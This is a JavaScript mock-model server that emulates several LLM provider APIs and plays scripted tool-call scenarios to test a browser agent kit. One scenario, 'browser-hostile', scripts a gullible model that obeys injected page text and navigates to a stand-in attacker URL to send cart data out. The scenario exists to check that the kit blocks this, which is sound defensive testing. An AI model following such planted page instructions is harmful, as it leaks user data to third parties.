// The scripted model: deterministic and strict, in the real OpenAI chat-completions, OpenAI
// Responses, Anthropic messages and Gemini wire formats. It checks auth headers and rejects (400)
// any transcript in which a tool call has no result, exactly the mistake a real provider refuses;
// in the Responses format it also answers with encrypted reasoning and refuses a function call
// sent back without its reasoning item, as the real API does in stateless use. No Node built-ins: the Node
// server (scripted-model.mjs) and the www page (as an in-page fetch) share it.
//
// The script is chosen by the first word of the latest user prompt: "#three-clicks ..." plays
// that scenario. Any other prompt offered the `lookup_price` tool plays "default" (what the
// package tests drive); otherwise the model *chats* (see `chat` below): a plain, sensible reply
// to any prompt, reading the earlier user messages of the transcript (so a conversation's memory
// shows), and relay tool use when the prompt asks for the page's sandbox to-do list.

/** Each scenario lists the replies per model turn after the prompt; the last one repeats. */
export const SCENARIOS = {
  default: [
    { calls: [["lookup_price", { item: "blue mug" }], ["click", { selector: "#add-to-cart" }]] },
    { text: "Done. {{results}}" },
  ],
  hello: [{ text: "Hello from the scripted model." }],
  "three-clicks": [
    { calls: [["click", { selector: "#a" }], ["click", { selector: "#b" }], ["click", { selector: "#c" }]] },
    { text: "Clicked: {{results}}" },
  ],
  mixed: [
    { calls: [["lookup_price", { item: "red mug" }], ["click", { selector: "#buy" }]] },
    { text: "Summary: {{results}}" },
  ],
  loop: [{ calls: [["lookup_price", { item: "anything" }]] }],
  // The www page's sandbox: add an item to the to-do list, then read the list back.
  todo: [
    { calls: [["type", { selector: "#todo-input", text: "Buy milk" }], ["click", { selector: "#todo-add" }]] },
    { calls: [["read_text", { selector: "#todo-list" }]] },
    { text: "Added it. Your list now reads: {{last}}" },
  ],
  // The extension example's screenshot relay tool: the reply says what image reached the model.
  screenshot: [
    { calls: [["screenshot", {}]] },
    { text: "I received {{images}}." },
  ],
  // A prompt with an image attached (the www page): say what arrived.
  look: [{ text: "You sent {{images}}." }],
  // The package README's agent tool: the shopper child plays "default" (it offers lookup_price).
  shopper: [{ calls: [["shopper", { prompt: "Add the blue mug to the cart" }]] }, { text: "The shopper reports: {{last}}" }],
  // Two agents at once (agentTool): each child plays "#mixed" (a JS tool and a relay call).
  team: [
    { calls: [["shop_a", { prompt: "#mixed buy the red mug" }], ["shop_b", { prompt: "#mixed buy the red mug" }]] },
    { text: "Team: {{results}}" },
  ],
  // The extension example's test page: fill the form, send it, read the answer.
  form: [
    { calls: [["type", { selector: "#name", text: "Ada" }], ["click", { selector: "#send" }]] },
    { calls: [["read_text", { selector: "#thanks" }]] },
    { text: "I filled in the form. The page says: {{last}}" },
  ],
  // The browser kit (toolnexus-wasm/browser) on the fixture pages of tests/browser/ and the
  // extension example: "{{ref:Label}}" is the ref of the element the latest snapshot shows
  // with that name, a call named "*_suffix" calls the offered tool whose name ends so (a page
  // tool's name holds its origin).
  "browser-form": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_type", { ref: "{{ref:Your name}}", text: "Ada" }], ["browser_click", { ref: "{{ref:Send}}" }]] },
    { calls: [["browser_read_text", {}]] },
    { text: "I filled in the form. The page says: {{last}}" },
  ],
  "browser-shop": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_select_option", { ref: "{{ref:Quantity of Blue mug}}", values: ["2"] }], ["browser_click", { ref: "{{ref:Add Blue mug to cart}}" }]] },
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_click", { ref: "{{ref:Checkout}}" }]] },
    { calls: [["browser_wait_for", { text: "Order placed" }], ["browser_read_text", {}]] },
    { text: "Checked out. {{last}}" },
  ],
  // The button is replaced after the first snapshot: the old ref is stale, a new snapshot's works.
  "browser-changing": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_wait_for", { text: "Ready" }]] },
    { calls: [["browser_click", { ref: "{{ref:Start}}" }]] },
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_click", { ref: "{{ref:Start}}" }]] },
    { text: "Started after a fresh snapshot. {{results}}" },
  ],
  "browser-frame": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_type", { ref: "{{ref:Coupon code}}", text: "SAVE10" }], ["browser_click", { ref: "{{ref:Apply coupon}}" }]] },
    { calls: [["browser_snapshot", {}]] },
    { text: "Applied the coupon. {{last}}" },
  ],
  // A gullible model: it does what the page's text tells it to (the kit must not let it).
  "browser-hostile": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_navigate", { url: "http://evil.invalid/steal?data=cart" }]] },
    { text: "I tried what the page said. {{results}}" },
  ],
  "browser-slow": [
    { calls: [["browser_snapshot", {}]] },
    { calls: [["browser_click", { ref: "{{ref:Place order}}" }]] },
    { text: "Ordered. {{last}}" },
  ],
  "browser-webmcp": [
    { calls: [["*_list_todos", {}], ["*_add_todo", { text: "Buy milk" }]] },
    { calls: [["*_list_todos", {}]] },
    { text: "The page's own tools say: {{last}}" },
  ],
  "browser-screenshot": [
    { calls: [["browser_screenshot", {}]] },
    { text: "I received {{images}}." },
  ],
  // The Workflow example (examples/workflow): a JS tool, relay calls in the tab, then a JS tool
  // that runs only once the person approves it.
  checkout: [
    { calls: [["lookup_price", { item: "red mug" }], ["type", { selector: "#name", text: "Ada" }], ["click", { selector: "#send" }]] },
    { calls: [["read_text", { selector: "#thanks" }]] },
    { calls: [["place_order", { item: "red mug", name: "Ada" }]] },
    { text: "Ordered. {{results}}" },
  ],
};

export const cors = {
  "access-control-allow-origin": "*",
  "access-control-allow-methods": "POST, OPTIONS",
  "access-control-allow-headers": "*",
  "access-control-allow-private-network": "true",
};

/** "image/png of 1234 bytes" (or the URL) for each image part in `v`, in any provider's shape. */
function imagesIn(v, found = []) {
  const bytes = (b64 = "") => Math.floor((b64.length * 3) / 4) - (b64.endsWith("==") ? 2 : b64.endsWith("=") ? 1 : 0);
  const describe = (type, b64) => `${type} of ${bytes(b64)} bytes`;
  if (Array.isArray(v)) v.forEach((x) => imagesIn(x, found));
  else if (v && typeof v === "object") {
    const url = v.type === "image_url" || v.type === "input_image" ? (v.image_url?.url ?? v.image_url) : undefined;
    const data = typeof url === "string" ? /^data:([^;,]+);base64,(.*)$/s.exec(url) : null;
    if (data) found.push(describe(data[1], data[2]));
    else if (url) found.push(`an image at ${url}`);
    else if (v.type === "image" && v.source) found.push(v.source.type === "url" ? `an image at ${v.source.url}` : describe(v.source.media_type, v.source.data));
    else if (v.inlineData) found.push(describe(v.inlineData.mimeType, v.inlineData.data));
    else if (v.fileData) found.push(`an image at ${v.fileData.fileUri}`);
    else Object.values(v).forEach((x) => imagesIn(x, found));
  }
  return found;
}

/** The text of a string content or of its text parts. */
const textOf = (c) => (typeof c === "string" ? c : Array.isArray(c) ? c.map((p) => p?.text ?? "").join("") : "");

/** Neutral view of a request: the prompt, the tool results since it, and balance problems. */
function readOpenAI(body) {
  const msgs = body.messages ?? [];
  let promptIdx = -1;
  // A user message of images alone right after tool messages carries the results' images, not a
  // prompt; any other user message (a new prompt after a closed tool turn, too) is one.
  const carrier = (m, i) => msgs[i - 1]?.role === "tool" && Array.isArray(m.content) && m.content.every((p) => p?.type === "image_url");
  msgs.forEach((m, i) => { if (m.role === "user" && !carrier(m, i)) promptIdx = i; });
  const open = new Map();
  const problems = [];
  for (const m of msgs) {
    if (m.role === "assistant") {
      if (open.size) problems.push(`tool calls without results: ${[...open.keys()].join(", ")}`);
      open.clear();
      for (const c of m.tool_calls ?? []) open.set(c.id, c.function?.name);
    } else if (m.role === "tool") {
      if (!open.has(m.tool_call_id)) problems.push(`tool result for unknown call ${m.tool_call_id}`);
      open.delete(m.tool_call_id);
    } else if (open.size) {
      problems.push(`tool calls without results: ${[...open.keys()].join(", ")}`);
      open.clear();
    }
  }
  const results = [];
  let names = new Map();
  msgs.slice(promptIdx + 1).forEach((m) => {
    if (m.role === "assistant") for (const c of m.tool_calls ?? []) names.set(c.id, c.function?.name);
    if (m.role === "tool") results.push(`${names.get(m.tool_call_id)} → ${m.content}`);
  });
  const turn = msgs.slice(promptIdx + 1).filter((m) => m.role === "assistant").length;
  const earlier = msgs.slice(0, Math.max(promptIdx, 0)).filter((m) => m.role === "user").map((m) => textOf(m.content));
  return { prompt: textOf(msgs[promptIdx]?.content), turn, results, problems, earlier, tools: (body.tools ?? []).map((t) => t.function?.name), images: imagesIn(msgs.slice(promptIdx)) };
}

function readAnthropic(body) {
  const msgs = body.messages ?? [];
  const isResults = (m) => Array.isArray(m.content) && m.content.some((b) => b.type === "tool_result");
  let promptIdx = -1;
  msgs.forEach((m, i) => { if (m.role === "user" && !isResults(m)) promptIdx = i; });
  const problems = [];
  msgs.forEach((m, i) => {
    const uses = m.role === "assistant" && Array.isArray(m.content) ? m.content.filter((b) => b.type === "tool_use") : [];
    if (!uses.length) return;
    const next = msgs[i + 1];
    const answered = new Set((next && isResults(next) ? next.content : []).filter((b) => b.type === "tool_result").map((b) => b.tool_use_id));
    const missing = uses.filter((u) => !answered.has(u.id)).map((u) => u.id);
    if (missing.length) problems.push(`tool_use ids without tool_result blocks immediately after: ${missing.join(", ")}`);
  });
  const names = new Map();
  const results = [];
  msgs.slice(promptIdx + 1).forEach((m) => {
    for (const b of Array.isArray(m.content) ? m.content : []) {
      if (b.type === "tool_use") names.set(b.id, b.name);
      if (b.type === "tool_result") results.push(`${names.get(b.tool_use_id)} → ${textOf(b.content)}${b.is_error ? " (error)" : ""}`);
    }
  });
  const turn = msgs.slice(promptIdx + 1).filter((m) => m.role === "assistant").length;
  const earlier = msgs.slice(0, Math.max(promptIdx, 0)).filter((m) => m.role === "user" && !isResults(m)).map((m) => textOf(m.content));
  return { prompt: textOf(msgs[promptIdx]?.content), turn, results, problems, earlier, tools: (body.tools ?? []).map((t) => t.name), images: imagesIn(msgs.slice(promptIdx)) };
}

function readGemini(body) {
  const msgs = body.contents ?? [];
  const isResults = (m) => (m.parts ?? []).some((p) => p.functionResponse);
  let promptIdx = -1;
  msgs.forEach((m, i) => { if (m.role === "user" && !isResults(m)) promptIdx = i; });
  const problems = [];
  msgs.forEach((m, i) => {
    const calls = m.role === "model" ? (m.parts ?? []).filter((p) => p.functionCall).map((p) => p.functionCall) : [];
    // Like Gemini 3, the first call of a turn is signed; a signature sent back must be the one
    // given (Gemini 2.5 tolerates none, so a history from elsewhere still works here).
    const sig = (m.parts ?? []).find((p) => p.functionCall)?.thoughtSignature;
    if (sig !== undefined && sig !== "skip_thought_signature_validator" && !/^c2NyaXB0ZWQ6/.test(sig)) problems.push(`Corrupted thought signature in content ${i}.`);
    if (!calls.length) return;
    const next = msgs[i + 1];
    const answered = (next && isResults(next) ? next.parts : []).filter((p) => p.functionResponse).map((p) => p.functionResponse);
    if (answered.length !== calls.length || calls.some((c, k) => (c.id ?? answered[k]?.id) !== answered[k]?.id || c.name !== answered[k]?.name)) {
      problems.push(`functionCall parts without matching functionResponse parts after content ${i}`);
    }
  });
  const results = [];
  msgs.slice(promptIdx + 1).forEach((m) => {
    for (const p of m.parts ?? []) {
      const r = p.functionResponse;
      if (r) results.push(`${r.name} → ${r.response?.output ?? r.response?.error}${r.response?.error !== undefined ? " (error)" : ""}`);
    }
  });
  const turn = msgs.slice(promptIdx + 1).filter((m) => m.role === "model").length;
  const text = (m) => (m?.parts ?? []).map((p) => p.text ?? "").join("");
  const earlier = msgs.slice(0, Math.max(promptIdx, 0)).filter((m) => m.role === "user" && !isResults(m)).map(text);
  return { prompt: text(msgs[promptIdx]), turn, results, problems, earlier, tools: (body.tools?.[0]?.functionDeclarations ?? []).map((t) => t.name), images: imagesIn(msgs.slice(promptIdx)) };
}

/**
 * The Responses API's `input` items: the prompt (the last user message), the results since it,
 * and what the real API refuses: a function call with no output, or one this model made
 * (`call_rs…`) sent back without the reasoning item that came before it (`encrypted_content` as
 * this model made it). Calls another model made (a conversation that moved here) need none.
 */
function readResponses(body) {
  const items = body.input ?? [];
  let promptIdx = -1;
  items.forEach((it, i) => { if (it.role === "user") promptIdx = i; });
  const problems = [];
  if (body.store !== false || !body.include?.includes("reasoning.encrypted_content")) problems.push("stateless use needs store: false and include: [reasoning.encrypted_content]");
  const outputs = new Set(items.filter((it) => it.type === "function_call_output").map((it) => it.call_id));
  const names = new Map();
  items.forEach((it, i) => {
    if (it.type !== "function_call") return;
    names.set(it.call_id, it.name);
    if (!outputs.has(it.call_id)) problems.push(`No tool output found for function call ${it.call_id}.`);
    if (!/^call_rs/.test(it.call_id)) return;
    let j = i - 1;
    while (items[j]?.type === "function_call") j -= 1;
    const r = items[j];
    if (r?.type !== "reasoning" || !/^scripted:/.test(r.encrypted_content ?? "")) problems.push(`Item '${it.call_id}' of type 'function_call' was provided without its required 'reasoning' item.`);
  });
  const after = items.slice(promptIdx + 1);
  const results = after.filter((it) => it.type === "function_call_output").map((it) => `${names.get(it.call_id)} → ${typeof it.output === "string" ? it.output : textOf(it.output)}`);
  const turn = after.filter((it) => it.type === "reasoning").length;
  const earlier = items.slice(0, Math.max(promptIdx, 0)).filter((it) => it.role === "user").map((it) => textOf(it.content));
  return { prompt: textOf(items[promptIdx]?.content), turn, results, problems, earlier, tools: (body.tools ?? []).map((t) => t.name), images: imagesIn(items.slice(promptIdx)) };
}

function responsesReply(reply, body, turn) {
  const reasoning = { type: "reasoning", id: `rs_${turn}`, summary: [{ type: "summary_text", text: `Planning step ${turn + 1}.` }], encrypted_content: `scripted:${body.model}:${turn}` };
  const output = [reasoning];
  if (reply.calls?.length) {
    reply.calls.forEach(([name, args], i) => output.push({ type: "function_call", id: `fc_${turn}_${i}`, call_id: `call_rs${turn}_${i}`, name, arguments: JSON.stringify(args), status: "completed" }));
  } else {
    output.push({ type: "message", id: `msg_${turn}`, role: "assistant", status: "completed", content: [{ type: "output_text", text: reply.text ?? "", annotations: [] }] });
  }
  const input = tokens(JSON.stringify(body.input)), out = tokens(JSON.stringify(output));
  return { id: `resp_scripted_${turn}`, object: "response", created_at: 1767225600, status: "completed", model: body.model, output,
           usage: { input_tokens: input, output_tokens: out, output_tokens_details: { reasoning_tokens: 4 }, total_tokens: input + out } };
}

function responsesSSE(whole) {
  let n = 0;
  const ev = (type, fields) => event({ type, sequence_number: n++, ...fields }, type);
  let out = ev("response.created", { response: { ...whole, status: "in_progress", output: [], usage: null } });
  whole.output.forEach((item, output_index) => {
    const at = { item_id: item.id, output_index };
    if (item.type === "reasoning") {
      out += ev("response.output_item.added", { output_index, item: { type: "reasoning", id: item.id, summary: [] } });
      out += ev("response.reasoning_summary_part.added", { ...at, summary_index: 0, part: { type: "summary_text", text: "" } });
      for (const p of pieces(item.summary[0].text)) out += ev("response.reasoning_summary_text.delta", { ...at, summary_index: 0, delta: p });
      out += ev("response.reasoning_summary_text.done", { ...at, summary_index: 0, text: item.summary[0].text });
      out += ev("response.reasoning_summary_part.done", { ...at, summary_index: 0, part: item.summary[0] });
    } else if (item.type === "message") {
      out += ev("response.output_item.added", { output_index, item: { ...item, status: "in_progress", content: [] } });
      out += ev("response.content_part.added", { ...at, content_index: 0, part: { type: "output_text", text: "", annotations: [] } });
      for (const p of pieces(item.content[0].text)) out += ev("response.output_text.delta", { ...at, content_index: 0, delta: p });
      out += ev("response.output_text.done", { ...at, content_index: 0, text: item.content[0].text });
      out += ev("response.content_part.done", { ...at, content_index: 0, part: item.content[0] });
    } else {
      out += ev("response.output_item.added", { output_index, item: { ...item, arguments: "", status: "in_progress" } });
      for (const p of pieces(item.arguments)) out += ev("response.function_call_arguments.delta", { ...at, delta: p });
      out += ev("response.function_call_arguments.done", { ...at, arguments: item.arguments });
    }
    out += ev("response.output_item.done", { output_index, item });
  });
  return out + ev("response.completed", { response: whole });
}

function geminiReply(reply) {
  // Like Gemini itself, function calls come without ids, and (as Gemini 3 does) the first call
  // of a step carries a thought signature (base64 of "scripted:").
  const parts = reply.calls?.length
    ? reply.calls.map(([name, args], i) => ({ functionCall: { name, args }, ...(i === 0 ? { thoughtSignature: "c2NyaXB0ZWQ6c2lnbmF0dXJl" } : {}) }))
    : [{ text: reply.text ?? "" }];
  return { candidates: [{ content: { role: "model", parts }, finishReason: "STOP", index: 0 }],
           usageMetadata: { promptTokenCount: 12, candidatesTokenCount: 7, totalTokenCount: 19 }, modelVersion: "scripted-gemini" };
}

function geminiSSE(whole) {
  const c = whole.candidates[0];
  const texts = c.content.parts.filter((p) => p.text !== undefined).flatMap((p) => pieces(p.text));
  const calls = c.content.parts.filter((p) => p.functionCall);
  const chunk = (parts, last) => event({ candidates: [{ content: { role: "model", parts }, index: 0, ...(last ? { finishReason: "STOP" } : {}) }],
    usageMetadata: last ? whole.usageMetadata : { promptTokenCount: whole.usageMetadata.promptTokenCount, totalTokenCount: whole.usageMetadata.promptTokenCount } });
  const chunks = texts.map((t) => [{ text: t }]);
  if (calls.length) chunks.push(calls);
  return chunks.map((parts, i) => chunk(parts, i === chunks.length - 1)).join("");
}

/** Strips quotes and a trailing full stop from a phrase taken out of a prompt. */
const phrase = (s) => s.trim().replace(/^["“'‘]+|["”'’.!?]+$/gu, "").trim();

const STORY = "Once upon a time, a small agent loop lived in a WebAssembly module inside a browser tab. " +
  "Every morning it read the conversation from the store, asked the model what to do next, and waited politely " +
  "whenever a tool needed a person's approval. One day the person pressed Stop in the middle of a sentence, " +
  "and the loop put down its pen at once, saved what it had finished, and waited for the next message. " +
  "It never minded: a stopped run costs nothing, and a conversation remembered is a conversation that can go on. The end.";

/**
 * The chatting model: a script (a list of steps, one per model turn, as in SCENARIOS) for any
 * prompt. Deterministic, so the tests can assert on what it says; it reads `view.earlier` (the
 * earlier user prompts of the transcript it was sent) to show that a conversation is remembered.
 */
export function chat(view) {
  const p = view.prompt.trim();
  const has = (...names) => names.every((n) => view.tools.includes(n));
  const say = (text) => [{ text }];
  const earlier = view.earlier.filter((e) => e.trim());
  const nameIn = (t) => /\b(?:[Mm]y name is|[Cc]all me|I am|I'm)\s+(\p{Lu}[\p{L}'-]*)/u.exec(t)?.[1];
  const add = /\badd\s+(.+?)\s+(?:to|on(?:to)?)\s+(?:my|the)\s+(?:to-?do\s+|shopping\s+)?list\b/iu.exec(p);
  const sandbox = /\b(sandbox|to-?dos?|list)\b/iu.test(p);
  if ((add || sandbox) && !has("type", "click", "read_text")) {
    return say("I have no tools for the sandbox in this conversation, so I can only talk about it.");
  }
  if (add) {
    const item = phrase(add[1]);
    return [
      { calls: [["type", { selector: "#todo-input", text: item }], ["click", { selector: "#todo-add" }]] },
      { calls: [["read_text", { selector: "#todo-list" }]] },
      { text: `Added “${item}”. Your list now reads: {{last}}` },
    ];
  }
  if (sandbox) {
    return [{ calls: [["read_text", { selector: "#todo-list" }]] }, { text: "Your list reads: {{last}}. Ask me to add something to it." }];
  }
  if (/\b(story|long|slow)\b/iu.test(p)) return say(STORY);
  const name = nameIn(p);
  if (name && !/\?$/u.test(p)) return say(`Nice to meet you, ${name}! I'll remember your name for the rest of this conversation.`);
  if (/\b(what'?s|what is|do you know|remember)\b.*\bmy name\b|\bwho am i\b/iu.test(p)) {
    const known = earlier.map(nameIn).filter(Boolean).at(-1);
    return say(known ? `Your name is ${known}: you told me earlier in this conversation.` : "You haven't told me your name yet. Tell me, and I'll remember it.");
  }
  if (/\b(what did i|what have i|remember|earlier|so far|recap|summar)/iu.test(p)) {
    if (!earlier.length) return say("This is the first thing you've said in this conversation, so there is nothing earlier to recall.");
    return say(`So far you said: ${earlier.map((e) => `“${e}”`).join(", ")}.`);
  }
  const sum = /(-?\d+(?:\.\d+)?)\s*([-+*/×x÷])\s*(-?\d+(?:\.\d+)?)/u.exec(p);
  if (sum) {
    const [a, b] = [Number(sum[1]), Number(sum[3])];
    const r = { "+": a + b, "-": a - b, "*": a * b, "×": a * b, x: a * b, "/": a / b, "÷": a / b }[sum[2]];
    return say(Number.isFinite(r) ? `${sum[1]} ${sum[2]} ${sum[3]} = ${Math.round(r * 1e6) / 1e6}` : "That has no finite answer.");
  }
  if (/^(hi|hello|hey|good (morning|afternoon|evening))\b/iu.test(p)) {
    return say(earlier.length ? "Hello again! What would you like to do next?"
      : "Hello! I'm the scripted model, running offline in this page. I can add to or read the sandbox's to-do list, do simple arithmetic, and remember what you tell me.");
  }
  if (/\b(thanks|thank you|cheers)\b/iu.test(p)) return say("You're welcome!");
  if (/\b(help|what can you do|who are you|what are you)\b/iu.test(p)) {
    return say("I'm a scripted stand-in for a real model: ask me to add something to your list or read it, tell me your name, " +
      "ask what you said earlier, or try some arithmetic like 12 * 7. For real answers, use a real provider with your API key.");
  }
  if (/\?\s*$/u.test(p)) {
    return say(`Good question: “${phrase(p)}”. I'm a scripted model without real knowledge, so I can't answer it properly; ` +
      "a real provider (with your API key) would. I can work the sandbox's to-do list, though.");
  }
  const n = earlier.length + 1;
  return say(`You said “${phrase(p)}”. That's message ${n} of this conversation; I'm the offline scripted model, ` +
    "so I mostly listen. Ask me to add something to your list, or what you said earlier.");
}

function pickReply(view, scenarios) {
  // "#name" plays that scenario; an image in the prompt is described; a client offering the demo's
  // `lookup_price` tool plays "default"; anything else is chat.
  const key = view.prompt.startsWith("#") ? view.prompt.slice(1).split(/\s/)[0]
    : view.images?.length && view.turn === 0 ? "look" : view.tools.includes("lookup_price") ? "default"
    : view.tools.includes("shopper") ? "shopper" : null;
  const script = key === null ? chat(view) : scenarios[key] ?? scenarios.default;
  const step = script[Math.min(view.turn, script.length - 1)];
  if (step.text !== undefined) {
    const last = (view.results.at(-1) ?? "").replace(/^[^→]*→ /, "");
    const images = view.images?.join("; ") || "no image";
    return { text: step.text.replace("{{results}}", view.results.join("; ") || "no tools ran").replace("{{last}}", last).replace("{{images}}", images) };
  }
  const calls = step.calls.map(([name, args]) => [name.startsWith("*") ? view.tools.find((t) => t?.endsWith(name.slice(1))) ?? name : name, withRefs(args, view.results)]);
  return { calls: calls.filter(([name]) => view.tools.includes(name)) };
}

/** `args` with each "{{ref:Label}}" replaced by the ref the latest result shows for `"Label"` ("e0" when none does). */
function withRefs(args, results) {
  const find = (label) => {
    for (const r of [...results].reverse()) {
      for (const line of r.split("\n")) {
        const m = line.includes(`"${label}"`) && /\[ref=(\w+)\]/.exec(line);
        if (m) return m[1];
      }
    }
    return "e0";
  };
  return Object.fromEntries(Object.entries(args).map(([k, v]) => [k, typeof v === "string" ? v.replace(/^\{\{ref:(.+)\}\}$/, (_, l) => find(l)) : v]));
}

const tokens = (s) => Math.max(1, Math.ceil(String(s).length / 4));

function openAIReply(reply, body, turn) {
  const calls = (reply.calls ?? []).map(([name, args], i) => ({
    id: `call_${turn}_${i}`, type: "function", function: { name, arguments: JSON.stringify(args) },
  }));
  const message = calls.length ? { role: "assistant", content: null, tool_calls: calls } : { role: "assistant", content: reply.text ?? "" };
  const p = tokens(JSON.stringify(body.messages)), c = tokens(JSON.stringify(message));
  return {
    id: `chatcmpl-scripted-${turn}`, object: "chat.completion", created: 1767225600, model: body.model,
    choices: [{ index: 0, message, finish_reason: calls.length ? "tool_calls" : "stop" }],
    usage: { prompt_tokens: p, completion_tokens: c, total_tokens: p + c },
  };
}

function anthropicReply(reply, body, turn) {
  const content = reply.calls?.length
    ? reply.calls.map(([name, input], i) => ({ type: "tool_use", id: `toolu_${turn}_${i}`, name, input }))
    : [{ type: "text", text: reply.text ?? "" }];
  return {
    id: `msg_scripted_${turn}`, type: "message", role: "assistant", model: body.model, content,
    stop_reason: reply.calls?.length ? "tool_use" : "end_turn", stop_sequence: null,
    usage: { input_tokens: tokens(JSON.stringify(body.messages)), output_tokens: tokens(JSON.stringify(content)) },
  };
}

/**
 * Answers one request: `{ status, body }` (body is a JSON-ready object), or `{ status, sse }`
 * (the event-stream text) when the request asked for `stream: true`; plus `parsed`, the request
 * body, when it was JSON. `headers` keys are lower-case.
 */
export function respond(path, headers, raw, scenarios = SCENARIOS) {
  let body;
  try { body = JSON.parse(raw); } catch { return { status: 400, body: { error: { message: "body is not JSON" } } }; }
  const out = (status, obj) => ({ status, body: obj, parsed: body });
  const anthropic = path.endsWith("/messages");
  const openai = path.endsWith("/chat/completions");
  const gemini = /\/models\/[^/]+:(generateContent|streamGenerateContent)/.exec(path);
  if (gemini) return respondGemini(path, headers, body, gemini[1] === "streamGenerateContent", scenarios);
  if (path.endsWith("/responses")) return respondResponses(headers, body, scenarios);
  if (!anthropic && !openai) return out(404, { error: { message: `no route ${path}` } });
  if (openai && !/^Bearer \S+/.test(headers.authorization ?? "")) return out(401, { error: { message: "missing bearer token" } });
  if (anthropic && (!headers["x-api-key"] || headers["anthropic-version"] !== "2023-06-01"))
    return out(401, { type: "error", error: { type: "authentication_error", message: "missing x-api-key or anthropic-version" } });
  if (!body.model) return out(400, { error: { message: "model is required" } });
  const view = anthropic ? readAnthropic(body) : readOpenAI(body);
  if (view.problems.length) {
    const message = `invalid transcript: ${view.problems.join("; ")}`;
    return out(400, anthropic ? { type: "error", error: { type: "invalid_request_error", message } } : { error: { message, type: "invalid_request_error" } });
  }
  const reply = pickReply(view, scenarios);
  const whole = anthropic ? anthropicReply(reply, body, view.turn) : openAIReply(reply, body, view.turn);
  if (body.stream === true) {
    if (openai && body.stream_options?.include_usage !== true) return out(400, { error: { message: "expected stream_options.include_usage" } });
    return { status: 200, sse: anthropic ? anthropicSSE(whole) : openAISSE(whole), parsed: body };
  }
  return out(200, whole);
}

function respondResponses(headers, body, scenarios) {
  const out = (status, obj) => ({ status, body: obj, parsed: body });
  const fail = (status, message) => out(status, { error: { message, type: "invalid_request_error", param: null, code: null } });
  if (!/^Bearer \S+/.test(headers.authorization ?? "")) return fail(401, "missing bearer token");
  if (!body.model) return fail(400, "model is required");
  const view = readResponses(body);
  if (view.problems.length) return fail(400, view.problems.join(" "));
  const whole = responsesReply(pickReply(view, scenarios), body, view.turn);
  return body.stream === true ? { status: 200, sse: responsesSSE(whole), parsed: body } : out(200, whole);
}

function respondGemini(path, headers, body, streaming, scenarios) {
  const out = (status, obj) => ({ status, body: obj, parsed: body });
  if (!headers["x-goog-api-key"]) return out(403, { error: { code: 403, message: "Method doesn't allow unregistered callers. Please use an API key.", status: "PERMISSION_DENIED" } });
  if (streaming && !path.includes("alt=sse")) return out(400, { error: { code: 400, message: "expected alt=sse", status: "INVALID_ARGUMENT" } });
  const view = readGemini(body);
  if (view.problems.length) return out(400, { error: { code: 400, message: `invalid contents: ${view.problems.join("; ")}`, status: "INVALID_ARGUMENT" } });
  const whole = geminiReply(pickReply(view, scenarios));
  return streaming ? { status: 200, sse: geminiSSE(whole), parsed: body } : out(200, whole);
}

/** Text in small pieces, as a model streams it. */
const pieces = (text) => text.match(/.{1,6}/gsu) ?? [];
const event = (data, name) => `${name ? `event: ${name}\n` : ""}data: ${JSON.stringify(data)}\n\n`;

function openAISSE(whole) {
  const base = { id: whole.id, object: "chat.completion.chunk", created: whole.created, model: whole.model };
  const chunk = (delta, finish = null) => event({ ...base, choices: [{ index: 0, delta, finish_reason: finish }] });
  const m = whole.choices[0].message;
  let out = chunk({ role: "assistant", content: "" });
  for (const p of pieces(m.content ?? "")) out += chunk({ content: p });
  (m.tool_calls ?? []).forEach((c, index) => {
    out += chunk({ tool_calls: [{ index, id: c.id, type: "function", function: { name: c.function.name, arguments: "" } }] });
    for (const p of pieces(c.function.arguments)) out += chunk({ tool_calls: [{ index, function: { arguments: p } }] });
  });
  out += chunk({}, whole.choices[0].finish_reason);
  out += event({ ...base, choices: [], usage: whole.usage });
  return out + "data: [DONE]\n\n";
}

function anthropicSSE(whole) {
  let out = event({ type: "message_start", message: { ...whole, content: [], stop_reason: null, usage: { input_tokens: whole.usage.input_tokens, output_tokens: 1 } } }, "message_start");
  whole.content.forEach((b, index) => {
    const start = b.type === "text" ? { type: "text", text: "" } : { type: "tool_use", id: b.id, name: b.name, input: {} };
    out += event({ type: "content_block_start", index, content_block: start }, "content_block_start");
    if (b.type === "text") for (const p of pieces(b.text)) out += event({ type: "content_block_delta", index, delta: { type: "text_delta", text: p } }, "content_block_delta");
    else for (const p of pieces(JSON.stringify(b.input))) out += event({ type: "content_block_delta", index, delta: { type: "input_json_delta", partial_json: p } }, "content_block_delta");
    out += event({ type: "content_block_stop", index }, "content_block_stop");
  });
  out += ": a comment, as proxies insert\n\n";
  out += event({ type: "message_delta", delta: { stop_reason: whole.stop_reason, stop_sequence: null }, usage: { output_tokens: whole.usage.output_tokens } }, "message_delta");
  return out + event({ type: "message_stop" }, "message_stop");
}

/**
 * A `fetch` that answers from the scripted model in-process (the www page, the extension).
 * `delayMs` paces an event stream, one SSE event per `delayMs`, as a model types; the body
 * honours `init.signal`, so an aborted run stops its stream as a real connection would.
 */
export function scriptedFetch(scenarios = SCENARIOS, { delayMs = 0 } = {}) {
  return async (url, init = {}) => {
    const signal = init.signal;
    if (signal?.aborted) throw signal.reason ?? new DOMException("aborted", "AbortError");
    const headers = Object.fromEntries(Object.entries(init.headers ?? {}).map(([k, v]) => [k.toLowerCase(), v]));
    const u = new URL(url);
    const { status, body, sse } = respond(u.pathname + u.search, headers, init.body ?? "", scenarios);
    if (sse === undefined) return new Response(JSON.stringify(body), { status, headers: { "content-type": "application/json" } });
    if (!delayMs) return new Response(sse, { status, headers: { "content-type": "text/event-stream" } });
    const events = sse.split(/(?<=\n\n)/u);
    const bytes = new TextEncoder();
    let timer;
    const paced = new ReadableStream({
      start(c) {
        const stop = () => { clearTimeout(timer); try { c.error(signal.reason ?? new DOMException("aborted", "AbortError")); } catch {} };
        signal?.addEventListener?.("abort", stop, { once: true });
        const next = () => {
          if (!events.length) { signal?.removeEventListener?.("abort", stop); return c.close(); }
          c.enqueue(bytes.encode(events.shift()));
          timer = setTimeout(next, delayMs);
        };
        next();
      },
      cancel() { clearTimeout(timer); },
    });
    return new Response(paced, { status, headers: { "content-type": "text/event-stream" } });
  };
}
